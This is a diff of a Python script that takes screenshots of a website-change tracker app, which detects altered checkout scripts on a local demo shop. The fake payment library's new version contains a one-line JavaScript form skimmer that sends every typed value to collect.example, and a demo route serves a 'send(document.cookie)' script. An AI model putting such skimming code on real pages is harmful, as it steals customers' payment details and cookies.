@@ -1,10 +1,12 @@
-"""Render the main window, the tracker editor and a history diff with demo data, to docs/*.png.
+"""Take the README's pictures of the app with demo data, to docs/*.png.
 
-    .venv/bin/python docs/screenshots.py
+    docs/screenshots_under_xvfb.sh      # a real X server with a window manager: title bars
+    .venv/bin/python docs/screenshots.py --offscreen   # no display at all: the windows only
 
-Offscreen (no display needed): a local HTTP server plays a small shop whose checkout page changes
-between checks (a new third-party script, a library whose bytes no longer match its integrity
-attribute), in a throw-away data directory. Nothing leaves the machine.
+A local HTTP server plays a small shop whose checkout page changes between checks (a new
+third-party script, a payment library whose bytes no longer match its integrity attribute), in a
+throw-away data directory; nothing leaves the machine. Under X each window is taken from the
+screen with its frame (ImageMagick's `import`); offscreen, Qt paints the window alone.
 """
 
 from __future__ import annotations
@@ -13,26 +15,67 @@ import asyncio
 import base64
 import hashlib
 import os
+import subprocess
 import sys
 import tempfile
 from pathlib import Path
 
-os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")
+OFFSCREEN = "--offscreen" in sys.argv or not os.environ.get("DISPLAY")
+if OFFSCREEN:
+    os.environ["QT_QPA_PLATFORM"] = "offscreen"
 os.environ.setdefault("QT_API", "pyside6")
 ROOT = Path(__file__).resolve().parent.parent
 sys.path.insert(0, str(ROOT))
 
 import qasync  # noqa: E402
-from PySide6.QtWidgets import QApplication  # noqa: E402
+from PySide6.QtWidgets import QApplication, QWidget  # noqa: E402
 
 from desktop_tracker.core.retry import RetryStrategy  # noqa: E402
 from desktop_tracker.domain.trackers import Tracker  # noqa: E402
 from desktop_tracker.gui.app import DesktopApp  # noqa: E402
+from desktop_tracker.gui.body_diff_view import BodyDiffWindow  # noqa: E402
+from desktop_tracker.gui.kinds.resources_diff import ResourcesDiffView  # noqa: E402
 from desktop_tracker.gui.single_instance import server_name  # noqa: E402
+from desktop_tracker.gui.theme import apply_theme  # noqa: E402
 from desktop_tracker.gui.tracker_editor import TrackerEditor  # noqa: E402
 from tests.support.http_server import LocalServer  # noqa: E402
 
 OUT = ROOT / "docs"
+
+
+def payment_library(version: str) -> bytes:
+    """A minified library as sites serve it: one long line, which the body diff lays out."""
+    parts = [
+        f'/*! payment lib {version} */!function(w,d){{"use strict";var api="https://pay.example/v3";'
+    ]
+    for n in range(40):
+        parts.append(
+            f"function f{n}(a,b){{if(!a)return null;var c=a.items||[];"
+            f"for(var i=0;i<c.length;i++){{b+=c[i].price*c[i].qty}}return b.toFixed(2)}}"
+        )
+    if version != "3.2":  # the new version also reads what the customer types
+        parts.append(
+            'd.addEventListener("input",function(e){new Image().src='
+            '"https://collect.example/i?v="+encodeURIComponent(e.target.value)});'
+        )
+    parts.append("w.Payment={total:f0,api:api}}(window,document);")
+    return "".join(parts).encode()
+
+
+async def settle(seconds: float) -> None:
+    """Let the loop run (events, repaints, the window manager's frame) for a while."""
+    await asyncio.sleep(seconds)  # the Qt loop runs meanwhile: qasync is the loop
+
+
+def shot(widget: QWidget, name: str) -> None:
+    """The widget as a user sees it: under X with its title bar, from the screen."""
+    path = OUT / name
+    if OFFSCREEN:
+        widget.grab().save(str(path))
+        return
+    frame = widget.frameGeometry()
+    crop = f"{frame.width()}x{frame.height()}+{frame.x()}+{frame.y()}"
+    subprocess.run(["import", "-window", "root", "-crop", crop, "+repage", str(path)], check=True)
 
 
 def sri(data: bytes) -> str:
@@ -40,7 +83,7 @@ def sri(data: bytes) -> str:
 
 
 def checkout(server: LocalServer, *, changed: bool) -> str:
-    lib = b"/* payment lib 3.2 */"
+    lib = payment_library("3.2")
     tags = [
         f'<script src="/js/payment.js" integrity="{sri(lib)}"></script>',
         '<script src="/js/app.js"></script>',
@@ -55,7 +98,7 @@ def checkout(server: LocalServer, *, changed: bool) -> str:
 
 async def make(data_dir: Path) -> None:
     with LocalServer() as server:
-        server.route("/js/payment.js", b"/* payment lib 3.2 */", content_type="text/javascript")
+        server.route("/js/payment.js", payment_library("3.2"), content_type="text/javascript")
         server.route("/js/app.js", "app.start()", content_type="text/javascript")
         server.route("/css/shop.css", "body{margin:0}", content_type="text/css")
         server.route("/collect.js", "send(document.cookie)", content_type="text/javascript")
@@ -91,31 +134,63 @@ async def make(data_dir: Path) -> None:
         for tracker in (shop, blog, status):
             assert tracker.id is not None
             await (await trackers.check_now(tracker.id))  # type: ignore[misc]
-        server.route(
-            "/js/payment.js", b"/* payment lib 3.2 */ skim()", content_type="text/javascript"
-        )
+        server.route("/js/payment.js", payment_library("3.3"), content_type="text/javascript")
         server.route("/checkout", checkout(server, changed=True))
         assert shop.id is not None
         await (await trackers.check_now(shop.id))  # type: ignore[misc]
-        await asyncio.sleep(0.6)  # the table and inbox pick the events up
+        await trackers.wait_beautified()
+        qt = QApplication.instance()
+        assert isinstance(qt, QApplication)
 
         window = app.window
         window.resize(1280, 560)
+        window.move(40, 30)
+        window.show()
         window.refresh()
-        await asyncio.sleep(0.4)
-        window.grab().save(str(OUT / "main-window.png"))
+        await settle(1.0)
+        shot(window, "main-window.png")
+        apply_theme(qt, "dark")
+        await settle(0.8)
+        shot(window, "main-window-dark.png")
+        apply_theme(qt, "light")
+        await settle(0.5)
 
         editor = TrackerEditor(window, shop, ["Blog", "Docs"])
         editor.show()
-        await asyncio.sleep(0.3)
-        editor.grab().save(str(OUT / "tracker-editor.png"))
-        editor.close()
+        editor.move(120, 40)
+        await settle(0.8)
+        shot(editor, "tracker-editor.png")
+        editor.reject()
 
         window.open_history(shop.id)
         history = window._history_windows[shop.id]
         history.resize(1200, 640)
-        await asyncio.sleep(1.0)
-        history.grab().save(str(OUT / "history-diff.png"))
+        history.move(60, 40)
+        history.raise_()
+        history.activateWindow()
+        await settle(1.5)
+        shot(history, "history-diff.png")
+
+        view = history.findChild(ResourcesDiffView)
+        assert view is not None
+        view.select_resource(server.url("/js/payment.js"))
+        view.show_selected_bodies()
+        for _ in range(200):
+            if view.body_windows:
+                break
+            await asyncio.sleep(0.05)
+        body = view.body_windows[0]
+        assert isinstance(body, BodyDiffWindow)
+        body.resize(1100, 620)
+        body.move(100, 60)
+        body.raise_()
+        body.activateWindow()
+        await settle(1.0)
+        shot(body, "body-diff.png")
+        apply_theme(qt, "dark")
+        await settle(0.8)
+        shot(body, "body-diff-dark.png")
+        apply_theme(qt, "system")
 
         app.quit.set()
         await running
@@ -128,6 +203,7 @@ def main() -> None:
     loop = qasync.QEventLoop(qt)
     asyncio.set_event_loop(loop)
     with tempfile.TemporaryDirectory() as folder:
+        folder = os.environ.get("SCREENSHOTS_DATA", folder)  # to read its log afterwards
         loop.run_until_complete(make(Path(folder) / "data"))
 
 
